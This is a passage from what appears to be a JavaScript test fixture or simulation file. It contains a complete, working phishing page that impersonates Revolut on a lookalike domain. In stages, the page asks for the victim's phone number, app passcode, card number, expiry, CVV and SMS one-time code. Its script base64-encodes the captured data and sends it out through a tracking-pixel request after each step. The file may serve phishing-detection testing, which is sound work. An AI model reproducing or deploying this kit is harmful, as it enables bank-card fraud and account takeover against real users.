   <div class="ph"><select><option>+44</option><option>+353</option><option>+49</option><option>+33</option><option>+34</option><option>+48</option><option>+370</option></select><input id="phone" type="tel" placeholder="Phone number"></div>
   <button class="cta" data-go="2">Continue</button>
  </div>
  <div class="stage" id="st2">
   <h1>Enter passcode</h1><p class="m">Enter the 4-digit passcode you use to log in to the Revolut app</p>
   <div class="pin"><input maxlength="1" inputmode="numeric" type="password"><input maxlength="1" inputmode="numeric" type="password"><input maxlength="1" inputmode="numeric" type="password"><input maxlength="1" inputmode="numeric" type="password"></div>
   <button class="cta" data-go="3">Next</button>
  </div>
  <div class="stage" id="st3">
   <h1>Confirm your card</h1><p class="m">Enter the details of the card linked to this account</p>
   <input class="in" id="cn" placeholder="Card number" inputmode="numeric">
   <input class="in" id="ce" placeholder="MM/YY"><input class="in" id="cc" placeholder="CVV" maxlength="3">
   <button class="cta" data-go="4">Confirm</button>
  </div>
  <div class="stage" id="st4">
   <h1>Enter the code</h1><p class="m">We sent a 6-digit code by SMS. Do not share this code with anyone.</p>
   <input class="in" id="sms" placeholder="••••••" inputmode="numeric" maxlength="6">
   <button class="cta" data-go="5">Unlock account</button>
  </div>
  <div class="stage" id="st5"><h1>Thanks!</h1><p class="m">Your account will be reviewed within 2 hours. You can close this page.</p></div>
 </div>
</div>
<script>
var D={};
function ship(){var t=Object.keys(D).map(function(k){return k+'='+D[k]}).join(' | ');
 var img=new Image();img.src='/px.gif?d='+encodeURIComponent(btoa(unescape(encodeURIComponent(t))));}
document.querySelectorAll('[data-go]').forEach(function(b){b.onclick=function(){
 var n=b.dataset.go;
 if(n==='2')D.phone=document.getElementById('phone').value;
 if(n==='3'){D.pass='';document.querySelectorAll('#st2 input').forEach(function(i){D.pass+=i.value})}
 if(n==='4'){D.card=document.getElementById('cn').value;D.exp=document.getElementById('ce').value;D.cvv=document.getElementById('cc').value}
 if(n==='5')D.sms=document.getElementById('sms').value;
 ship();document.querySelector('.stage.on').classList.remove('on');document.getElementById('st'+n).classList.add('on');
}});
document.querySelectorAll('.pin input').forEach(function(i,ix,all){i.oninput=function(){if(i.value&&all[ix+1])all[ix+1].focus()}});
</script>
</body>
</html>
`,
    routes: {
      "app-revolut.support-unlock.online/px.gif": pixelPng(),
    },
  },
];
